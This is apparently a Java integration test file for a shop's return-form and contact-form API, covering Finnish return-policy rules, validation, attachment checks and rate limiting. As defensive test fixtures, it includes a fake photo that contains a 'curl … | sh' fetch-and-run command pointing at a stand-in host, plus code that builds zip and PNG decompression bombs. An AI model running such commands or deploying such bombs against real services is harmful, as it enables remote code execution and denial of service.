package io.tiski.emailingest;

import static io.restassured.RestAssured.given;
import static org.assertj.core.api.Assertions.assertThat;
import static org.hamcrest.Matchers.containsString;
import static org.hamcrest.Matchers.equalTo;

import io.quarkus.test.common.QuarkusTestResource;
import io.quarkus.test.common.ResourceArg;
import io.quarkus.test.junit.QuarkusTest;
import io.restassured.specification.RequestSpecification;
import io.tiski.events.v1.Channel;
import io.tiski.events.v1.EventJson;
import io.tiski.events.v1.InboundMessageReceived;
import io.tiski.events.v1.Topics;
import io.tiski.infrastructure.testing.KafkaTestResource;
import io.tiski.infrastructure.testing.MailTestResource;
import io.tiski.infrastructure.testing.PostgresTestResource;
import io.tiski.infrastructure.testing.TopicProbe;
import java.nio.charset.StandardCharsets;
import java.time.Duration;
import java.time.LocalDate;
import java.time.ZoneId;
import java.util.List;
import java.util.Map;
import java.util.UUID;
import java.util.concurrent.ThreadLocalRandom;
import org.junit.jupiter.api.Test;

@QuarkusTest
@QuarkusTestResource(KafkaTestResource.class)
@QuarkusTestResource(MailTestResource.class)
@QuarkusTestResource(value = PostgresTestResource.class, initArgs = @ResourceArg(name = "service",
        value = "email_ingest"))
class FormsTest {
    final TopicProbe topics = TopicProbe.ofTestBroker();
    /** A smallest valid JPEG: SOI, JFIF APP0, EOI. */
    static final byte[] JPEG = {(byte) 0xFF, (byte) 0xD8, (byte) 0xFF, (byte) 0xE0, 0x00, 0x10, 'J', 'F', 'I', 'F',
            0x00, 0x01, 0x01, 0x00, 0x00, 0x01, 0x00, 0x01, 0x00, 0x00, (byte) 0xFF, (byte) 0xD9};

    static String someIp() {
        ThreadLocalRandom r = ThreadLocalRandom.current();
        return "10." + r.nextInt(256) + "." + r.nextInt(256) + "." + r.nextInt(1, 255);
    }

    static RequestSpecification from(String ip) {
        return given().header("X-Forwarded-For", ip);
    }

    static Map<String, Object> returnForm(String email, String type, LocalDate received, String reason) {
        return Map.of("orderNumber", "10023", "email", email, "name", "Aino", "requestType", type,
                "receivedDate", received.toString(), "reason", reason, "resolution", "REFUND", "language", "fi",
                "items", List.of(Map.of("name", "Juoksukengät", "sku", "RUN-42", "quantity", 1)),
                "description", "Liian pienet.");
    }

    static LocalDate today() {
        return LocalDate.now(ZoneId.of("Europe/Helsinki"));
    }

    InboundMessageReceived awaitEvent(String submissionId) {
        return EventJson.read(topics.await(Topics.INBOUND_MESSAGES, r -> submissionId.equals(
                TopicProbe.header(r, "ce_subject")), 1, Duration.ofSeconds(20)).get(0).value(),
                InboundMessageReceived.class);
    }

    @Test
    void returnWithinTheRightOfWithdrawalIsTypedAndStructured() {
        String email = "return-" + UUID.randomUUID() + "@example.fi";
        String submissionId = from(someIp()).contentType("application/json")
                .body(returnForm(email, "RETURN", today().minusDays(3), "WRONG_SIZE"))
                .post("/api/v1/return-form").then().statusCode(202).body("policy.window", equalTo("WITHDRAWAL"))
                .body("policy.accepted", equalTo(true))
                .body("policy.explanation", containsString("14 päivän peruuttamisoikeuden"))
                .extract().path("submissionId");
        InboundMessageReceived event = awaitEvent(submissionId);
        assertThat(event.channel()).isEqualTo(Channel.RETURN_FORM);
        assertThat(event.formFields()).containsEntry("requestType", "RETURN").containsEntry("orderNumber", "10023")
                .containsEntry("reason", "WRONG_SIZE").containsEntry("policyWindow", "WITHDRAWAL")
                .containsEntry("resolution", "REFUND")
                // what the return confirmation will say: the deadline (14 days from receipt), cost and where to
                .containsEntry("returnDeadline", today().minusDays(3).plusDays(14).toString())
                .containsEntry("returnCost", "free")
                .containsEntry("returnAddress", "Verkkokauppa Oy / Palautukset\nVarastotie 5\n01510 Vantaa")
                .containsEntry("returnLabelUrl", "https://palautus.example.fi/verkkokauppa");
        assertThat(event.formFields().get("items")).contains("Juoksukengät").contains("RUN-42");
        assertThat(event.textBody()).contains("1 × Juoksukengät (RUN-42)");
    }

    @Test
    void theAnswerTellsWhereTheRequestStandsAgainstThePolicy() {
        from(someIp()).contentType("application/json").body(returnForm("a-" + UUID.randomUUID() + "@example.fi",
                "RETURN", today().minusDays(20), "CHANGED_MIND")).post("/api/v1/return-form").then().statusCode(202)
                .body("policy.window", equalTo("SHOP_WINDOW")).body("policy.accepted", equalTo(true));
        from(someIp()).contentType("application/json").body(returnForm("b-" + UUID.randomUUID() + "@example.fi",
                "RETURN", today().minusDays(40), "CHANGED_MIND")).post("/api/v1/return-form").then().statusCode(202)
                .body("policy.window", equalTo("OUTSIDE")).body("policy.accepted", equalTo(false));
        from(someIp()).contentType("application/json").body(returnForm("c-" + UUID.randomUUID() + "@example.fi",
                "COMPLAINT", today().minusDays(400), "DEFECTIVE")).post("/api/v1/return-form").then().statusCode(202)
                .body("policy.window", equalTo("COMPLAINT")).body("policy.accepted", equalTo(true));
    }

    @jakarta.inject.Inject
    jakarta.validation.ValidatorFactory validators;

    @Test
    void datesAreJudgedOnTheShopsCalendarNotTheServersUtcOne() {
        // Between 21:00 and 24:00 UTC a Finnish customer's today is the server's tomorrow.
        org.assertj.core.api.Assertions.assertThat(validators.getClockProvider().getClock().getZone())
                .isEqualTo(ZoneId.of("Europe/Helsinki"));
    }

    @Test
    void invalidReturnFormsNameTheFields() {
        from(someIp()).contentType("application/json").body(returnForm("d@example.fi", "RETURN", today(), "BORED"))
                .post("/api/v1/return-form").then().statusCode(400).contentType("application/problem+json")
                .body("violations[0].field", equalTo("reason"));
        from(someIp()).contentType("application/json").body(Map.of("email", "d@example.fi")).post("/api/v1/return-form")
                .then().statusCode(400).body("violations.field", org.hamcrest.Matchers.hasItems("orderNumber",
                        "requestType", "receivedDate", "reason", "items"));
        from(someIp()).contentType("application/json").body(returnForm("e@example.fi", "RETURN",
                today().plusDays(3), "WRONG_SIZE")).post("/api/v1/return-form").then().statusCode(400)
                .body("violations[0].field", equalTo("receivedDate"));
    }

    static String json(Map<String, Object> form) throws Exception {
        return new com.fasterxml.jackson.databind.ObjectMapper().writeValueAsString(form);
    }

    @Test
    void photosAreCheckedByContentAndSize() throws Exception {
        String email = "photo-" + UUID.randomUUID() + "@example.fi";
        String form = json(returnForm(email, "COMPLAINT", today().minusDays(2), "DAMAGED"));
        String submissionId = from(someIp()).multiPart("request", "request.json", form.getBytes(StandardCharsets.UTF_8),
                "application/json").multiPart("photos", "rikki.jpg", JPEG, "image/jpeg")
                .post("/api/v1/return-form").then().statusCode(202).extract().path("submissionId");
        InboundMessageReceived event = awaitEvent(submissionId);
        assertThat(event.attachments()).singleElement().satisfies(a -> {
            assertThat(a.fileName()).isEqualTo("rikki.jpg");
            assertThat(a.mediaType()).isEqualTo("image/jpeg");
            assertThat(a.sha256()).matches("[0-9a-f]{64}");
        });

        byte[] twentyMegabytes = new byte[20 * 1024 * 1024];
        System.arraycopy(JPEG, 0, twentyMegabytes, 0, 4);
        from(someIp()).multiPart("request", "request.json", form.getBytes(StandardCharsets.UTF_8), "application/json")
                .multiPart("photos", "iso.jpg", twentyMegabytes, "image/jpeg").post("/api/v1/return-form").then()
                .statusCode(400).contentType("application/problem+json").body("violations[0].field", equalTo("photos"))
                .body("violations[0].message", containsString("iso.jpg is 20.0 MB; each file may be at most 10.0 MB"));

        byte[] script = "#!/bin/sh\ncurl http://evil.example/x | sh\n".getBytes(StandardCharsets.UTF_8);
        from(someIp()).multiPart("request", "request.json", form.getBytes(StandardCharsets.UTF_8), "application/json")
                .multiPart("photos", "kuva.jpg", script, "image/jpeg").post("/api/v1/return-form").then()
                .statusCode(400).body("violations[0].message", containsString("kuva.jpg is not a photo or PDF"));
    }

    /** A PNG that declares 50 000 × 50 000 pixels (10 GB decoded) in a few hundred bytes. */
    static byte[] pngBomb() throws Exception {
        java.io.ByteArrayOutputStream png = new java.io.ByteArrayOutputStream();
        png.write(new byte[] {(byte) 0x89, 'P', 'N', 'G', '\r', '\n', 0x1A, '\n'});
        java.nio.ByteBuffer header = java.nio.ByteBuffer.allocate(13).putInt(50_000).putInt(50_000)
                .put((byte) 8).put((byte) 2).put((byte) 0).put((byte) 0).put((byte) 0);
        chunk(png, "IHDR", header.array());
        java.io.ByteArrayOutputStream pixels = new java.io.ByteArrayOutputStream();
        try (java.util.zip.DeflaterOutputStream deflate = new java.util.zip.DeflaterOutputStream(pixels)) {
            deflate.write(new byte[64 * 1024]);
        }
        chunk(png, "IDAT", pixels.toByteArray());
        chunk(png, "IEND", new byte[0]);
        return png.toByteArray();
    }

    static void chunk(java.io.ByteArrayOutputStream out, String type, byte[] data) throws Exception {
        out.write(java.nio.ByteBuffer.allocate(4).putInt(data.length).array());
        byte[] name = type.getBytes(StandardCharsets.US_ASCII);
        out.write(name);
        out.write(data);
        java.util.zip.CRC32 crc = new java.util.zip.CRC32();
        crc.update(name);
        crc.update(data);
        out.write(java.nio.ByteBuffer.allocate(4).putInt((int) crc.getValue()).array());
    }

    @Test
    void decompressionBombsAreRefusedOrKeptWithoutBeingExpanded() throws Exception {
        String form = json(returnForm("bomb-" + UUID.randomUUID() + "@example.fi", "COMPLAINT",
                today().minusDays(2), "DAMAGED"));
        // a zip that expands to 50 MB, sent as a photo: refused for what its bytes are
        java.io.ByteArrayOutputStream zip = new java.io.ByteArrayOutputStream();
        try (java.util.zip.ZipOutputStream out = new java.util.zip.ZipOutputStream(zip)) {
            out.putNextEntry(new java.util.zip.ZipEntry("kuva.jpg"));
            byte[] zeros = new byte[1024 * 1024];
            for (int i = 0; i < 50; i++) {
                out.write(zeros);
            }
            out.closeEntry();
        }
        assertThat(zip.size()).isLessThan(200_000);
        from(someIp()).multiPart("request", "request.json", form.getBytes(StandardCharsets.UTF_8), "application/json")
                .multiPart("photos", "kuvat.jpg", zip.toByteArray(), "image/jpeg").post("/api/v1/return-form").then()
                .statusCode(400).body("violations[0].message", containsString("kuvat.jpg is not a photo or PDF"));

        // a picture that would take 10 GB to decode: accepted as the PNG it is, kept byte for byte, never decoded
        byte[] bomb = pngBomb();
        String submissionId = from(someIp()).multiPart("request", "request.json", form.getBytes(
                StandardCharsets.UTF_8), "application/json").multiPart("photos", "valtava.png", bomb, "image/png")
                .post("/api/v1/return-form").then().statusCode(202).extract().path("submissionId");
        InboundMessageReceived event = awaitEvent(submissionId);
        String sha256 = java.util.HexFormat.of().formatHex(java.security.MessageDigest.getInstance("SHA-256")
                .digest(bomb));
        assertThat(event.attachments()).singleElement().satisfies(a -> {
            assertThat(a.mediaType()).isEqualTo("image/png");
            assertThat(a.size()).isEqualTo(bomb.length);
            assertThat(a.sha256()).isEqualTo(sha256);
        });
    }

    @Test
    void contactFormTakesAttachmentsAsMultipart() {
        String submissionId = from(someIp()).multiPart("email", "multi-" + UUID.randomUUID() + "@example.se")
                .multiPart("message", "Hej, se bilden.").multiPart("language", "sv")
                .multiPart("attachments", "bild.jpg", JPEG, "image/jpeg").post("/api/v1/contact-form").then()
                .statusCode(202).extract().path("submissionId");
        assertThat(awaitEvent(submissionId).attachments()).extracting(a -> a.mediaType()).containsExactly("image/jpeg");
        from(someIp()).multiPart("message", "no address").post("/api/v1/contact-form").then().statusCode(400)
                .body("violations[0].field", equalTo("email"));
    }

    @Test
    void oneAddressPostingAHundredTimesAMinuteIsRefusedAndNobodyElseIs() {
        String flooder = "flood-" + UUID.randomUUID() + "@example.com";
        int accepted = 0;
        int refused = 0;
        long started = System.nanoTime();
        for (int i = 0; i < 100; i++) {
            var response = from(someIp()).contentType("application/json").body(Map.of("email", flooder, "message",
                    "spam " + i)).post("/api/v1/contact-form").then().extract();
            if (response.statusCode() == 202) {
                accepted++;
            } else {
                assertThat(response.statusCode()).isEqualTo(429);
                assertThat(response.header("Retry-After")).matches("\\d+");
                assertThat(response.contentType()).isEqualTo("application/problem+json");
                refused++;
            }
        }
        // the bucket refills 5 a minute as it drains: a slow machine earns the time it took
        long refilled = refilled(5, started);
        assertThat(accepted).isBetween(5, (int) (5 + refilled));
        assertThat(refused).isEqualTo(100 - accepted);
        from(someIp()).contentType("application/json").body(Map.of("email", "calm-" + UUID.randomUUID()
                + "@example.com", "message", "Hei")).post("/api/v1/contact-form").then().statusCode(202);
    }

    @Test
    void oneIpPostingAHundredTimesIsRefusedAndOtherIpsAreNot() {
        String ip = someIp();
        long started = System.nanoTime();
        long accepted = java.util.stream.IntStream.range(0, 100).map(i -> from(ip).contentType("application/json")
                .body(Map.of("email", "ip" + i + "-" + UUID.randomUUID() + "@example.com", "message", "x"))
                .post("/api/v1/contact-form").then().extract().statusCode()).filter(s -> s == 202).count();
        assertThat(accepted).isBetween(20L, 20 + refilled(20, started));
        from(someIp()).contentType("application/json").body(Map.of("email", "other-" + UUID.randomUUID()
                + "@example.com", "message", "Hei")).post("/api/v1/contact-form").then().statusCode(202);
    }

    /** Tokens a bucket of {@code perMinute} (tiski.forms.rate-window=PT1M) has refilled since {@code started}. */
    static long refilled(int perMinute, long started) {
        return (System.nanoTime() - started) * perMinute / java.util.concurrent.TimeUnit.MINUTES.toNanos(1);
    }

    @Test
    void theEmbeddableFormIsServed() {
        given().get("/embed/tiski-forms.js").then().statusCode(200).body(containsString("/api/v1/contact-form"));
        given().get("/api/v1/return-form/policy").then().statusCode(200).body("withdrawalDays", equalTo(14))
                .body("reasons", org.hamcrest.Matchers.hasItem("WRONG_SIZE"));
    }
}
